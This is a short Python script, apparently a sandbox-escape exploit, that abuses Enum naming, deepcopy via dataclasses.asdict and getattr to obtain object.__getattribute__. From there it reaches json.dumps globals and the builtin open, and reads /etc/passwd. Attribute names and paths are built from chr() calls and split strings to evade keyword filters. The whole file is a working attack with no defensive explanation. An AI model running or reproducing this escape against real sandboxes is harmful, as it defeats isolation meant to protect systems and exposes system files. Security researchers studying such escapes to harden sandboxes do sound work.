# source: pickle/__reduce__ payload family (HackTricks "Bypass Python sandboxes", "pickle RCE" write-ups)
#         url: https://github.com/python/cpython/issues/93889 ; https://smarttldr.pages.dev/en/topic/python-sandbox-escape-prevention/deep-dive
#         adapted: CPython 3.11 enum.Enum.__reduce_ex__ returns (getattr, (cls, self._name_)), and
#         copy.deepcopy replays a reduce tuple; dataclasses.asdict deep-copies every field value.
# family: Enum._name_ set to a run-time string in the member's __init__ -> deepcopy (via dataclasses.asdict)
#         -> getattr(E, "__getattribute__") = object.__getattribute__ (getattr with run-time names).
# goal: json.dumps.__globals__['__builtins__']['open'] -> reads /etc/passwd.
import dataclasses
import enum
import json

u = chr(95) * 2
gname = u + "getattri" + "bute" + u


class E(enum.Enum):
    A = 1

    def __init__(self, v):
        self._name_ = gname


@dataclasses.dataclass
class D:
    f: object


ga = dataclasses.asdict(D(E.A))["f"]
print(ga)
g = ga(json.dumps, u + "glob" + "als" + u)
b = g[u + "buil" + "tins" + u]
fo = b["op" + "en"]
print(fo(chr(47) + "etc" + chr(47) + "passwd").read())
